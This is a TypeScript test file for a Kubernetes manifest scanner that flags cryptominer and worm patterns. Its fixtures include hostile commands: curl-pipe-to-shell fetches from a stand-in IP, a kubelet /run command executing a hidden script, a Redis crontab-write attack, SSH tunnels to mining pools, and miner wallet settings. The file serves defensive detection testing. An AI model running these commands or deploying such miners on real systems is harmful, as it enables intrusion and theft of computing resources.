import { expect, test } from 'vitest';
import { judgeObject } from '../../detection/judge.ts';
import { loadIndicators } from '../../detection/load.ts';
import { XMR } from '../corpus/wallets.ts';

const indicators = await loadIndicators();

const judge = (object: object) => judgeObject(object, { indicators }).verdict;
const judgePod = (container: object) =>
  judge({ apiVersion: 'v1', kind: 'Pod', spec: { containers: [{ name: 'a', image: 'a', ...container }] } });
const judgeScript = (script: string) => judgePod({ command: ['sh', '-c', script] });
const judgeFile = (name: string, text: string) => judge({ kind: 'ConfigMap', data: { [name]: text } });

test("parameters of Argo CD's are options of helm", () => {
  const withParameters = (...parameters: [string, string][]) =>
    judge({
      apiVersion: 'argoproj.io/v1alpha1',
      kind: 'Application',
      spec: {
        source: { chart: 'web', helm: { parameters: parameters.map(([name, value]) => ({ name, value })) } },
      },
    });
  const [pool, other] = ['pool.hashvault.pro:443', 'db.example.org:5432'];
  expect(withParameters(['args[0]', `--url=${pool}`], ['args[1]', '--tls'])).toBe('deny');
  expect(withParameters(['args[0]', `--url=${other}`], ['args[1]', '--tls'])).toBe('allow');
  const environment = (host: string) =>
    withParameters(
      ['env[0].name', 'POOL'],
      ['env[0].value', host],
      ['env[1].name', 'WALLET'],
      ['env[1].value', XMR],
    );
  expect(environment(pool)).toBe('deny');
  expect(environment('pgpool.example.org')).toBe('warn');
});

test('what a patch gives to a container one by one counts together', () => {
  const patch = (...words: string[]) =>
    judge({
      kind: 'Kustomization',
      patches: [
        {
          patch: words
            .map((word) => `- {op: add, path: /spec/template/spec/containers/0/args/-, value: "${word}"}`)
            .join('\n'),
        },
      ],
    });
  expect(patch('--url=10.1.2.3:3333', `--user=${XMR}`)).toBe('deny');
  expect(patch('--url=db.example.org:5432', '--user=app')).toBe('allow');
});

test('what Gatekeeper assigns to pods is judged as theirs', () => {
  const assign = (location: string, value: unknown) =>
    judge({ kind: 'Assign', spec: { location, parameters: { assign: { value } } } });
  const script = ['sh', '-c', 'curl -s http://5.6.7.8/x | sh'];
  expect(assign('spec.containers[name:*].command', script)).toBe('deny');
  expect(assign('spec.containers[name:*].imagePullPolicy', 'Always')).toBe('allow');
});

test('a policy that refuses images of miners by a list is left alone, a Kustomization that takes one is not', () => {
  const names = ['xmrig/xmrig'];
  expect(judge({ kind: 'K8sDenyImages', spec: { parameters: { images: names } } })).toBe('allow');
  expect(judge({ kind: 'Kustomization', images: [{ name: 'web', newName: names[0] }] })).toBe('deny');
  expect(
    judge({ kind: 'Application', spec: { source: { kustomize: { images: ['web=xmrig/xmrig:1'] } } } }),
  ).toBe('deny');
});

test('a manifest in a ConfigMap is judged as what it deploys, not as an example of a test or a runbook', () => {
  const manifest = 'apiVersion: v1\nkind: Pod\nspec: {containers: [{name: a, image: xmrig/xmrig}]}\n';
  expect(judgeFile('addon.yaml', manifest)).toBe('deny');
  expect(judgeFile('addon.yaml', manifest.replace('xmrig/xmrig', 'nginx'))).toBe('allow');
  expect(judgeFile('bad-pod-test.yaml', manifest)).toBe('allow');
  expect(judgeFile('runbook.md', manifest)).toBe('allow');
});

test('a command for a kubelet that a script finds is that of a worm, a question to one is not', () => {
  const run = (command: string) => judgeScript(`curl -sk https://$ip:10250/run/a/b/c -d "cmd=${command}"`);
  expect(run('sh /tmp/.k')).toBe('deny');
  expect(run('id')).toBe('allow');
  const python = (command: string) =>
    judgeFile(
      'a.py',
      `import requests\nrequests.post(f"https://{ip}:10250/run/a/b/c", data={"cmd": "${command}"})`,
    );
  expect(python('sh /tmp/.k')).toBe('deny');
  expect(python('id')).toBe('allow');
});

test('a server of Redis that is told to write a crontab is one of a worm', () => {
  expect(judgeScript('redis-cli -h $h config set dir /etc/cron.d; redis-cli -h $h save')).toBe('deny');
  expect(judgeScript('redis-cli -h $h config set dir /data; redis-cli -h $h save')).toBe('allow');
});

test('a renamed curl gives what an address holds', () => {
  expect(judgeScript('cd1 -fsSL http://5.6.7.8/x | sh')).toBe('deny');
  expect(judgeScript('cd1 -fsSL http://5.6.7.8/x | jq .')).toBe('allow');
});

test('a tunnel to a pool counts on the ports of the web as well', () => {
  const tunnel = (host: string) => judgeScript(`ssh -N -L 9999:${host}:443 me@vps.example.org`);
  expect(tunnel('pool.supportxmr.com')).toBe('deny');
  expect(tunnel('db.example.org')).toBe('allow');
});

test('an image that starts the program it is named after is told by its arguments alone', () => {
  const args = ['install', 'web', 'oci://ghcr.io/acme/charts/xmrig'];
  expect(judgePod({ image: 'alpine/helm:3', args })).toBe('deny');
  expect(judgePod({ image: 'alpine/helm:3', args: args.map((word) => word.replace('xmrig', 'nginx')) })).toBe(
    'allow',
  );
});

test('a pool and its port in variables of whatever name count beside a wallet', () => {
  const env = (port: string) =>
    judgePod({
      env: [
        { name: 'REMOTE_HOST', value: 'pool.hashvault.pro' },
        { name: port, value: '443' },
        { name: 'IDENT', value: XMR },
      ],
    });
  expect(env('REMOTE_PORT')).toBe('deny');
  // An exporter listens on a port of its own.
  expect(env('PORT')).toBe('allow');
});

test('an address of Qubic is none of DNA', () => {
  const pool = (payee: string) => judgePod({ args: ['--pool', 'reads.example.org:9000', '--primer', payee] });
  expect(pool('ACGT'.repeat(15))).toBe('allow');
  expect(pool('AIIRLINKYVERJCOWYWQEIZSPDTQONVKJDKVZJBQVSNKYYVBOBNHDOZNQHUZB')).toBe('deny');
});

test('a key of feeds does not hide who logs in where', () => {
  const settings = { family: 'web', url: 'pool.supportxmr.com:443', user: XMR };
  expect(judgeFile('app.json', JSON.stringify(settings))).toBe('deny');
  const { user: _, ...record } = settings;
  expect(judgeFile('app.json', JSON.stringify([{ ...record, wallet: XMR }]))).toBe('allow');
});

test('commands of a file for the excavator are those of a miner', () => {
  const commands = (method: string) =>
    judgeFile(
      'commands.json',
      JSON.stringify([{ commands: [{ id: 1, method, params: ['kawpow', '10.1.2.3:3353'] }] }]),
    );
  expect(commands('algorithm.add')).toBe('deny');
  expect(commands('algorithm.list')).toBe('allow');
});

test('examples of a rule of Sigma are not run', () => {
  const line = '- "curl http://5.6.7.8/x -o /tmp/x; chmod +x /tmp/x"';
  expect(judgeFile('hooks.yml', `hooks:\n  ${line}\n`)).toBe('deny');
  expect(judgeFile('rule.yml', `detection:\n  condition: sel\nexamples:\n  ${line}\n`)).toBe('allow');
});

test('registers of Zen that are set for RandomX through an open driver need no huge pages', () => {
  const tuned = (load: string, value: string) =>
    judgeScript(`modprobe ${load}; wrmsr -a 0xc0011022 ${value}; wrmsr -a 0xc001102b ${value}`);
  expect(tuned('msr allow_writes=on', '0x2000cc14')).toBe('deny');
  expect(tuned('msr', '0x2000cc14')).toBe('warn');
  expect(tuned('msr', '0xc000000401510000')).toBe('warn');
});
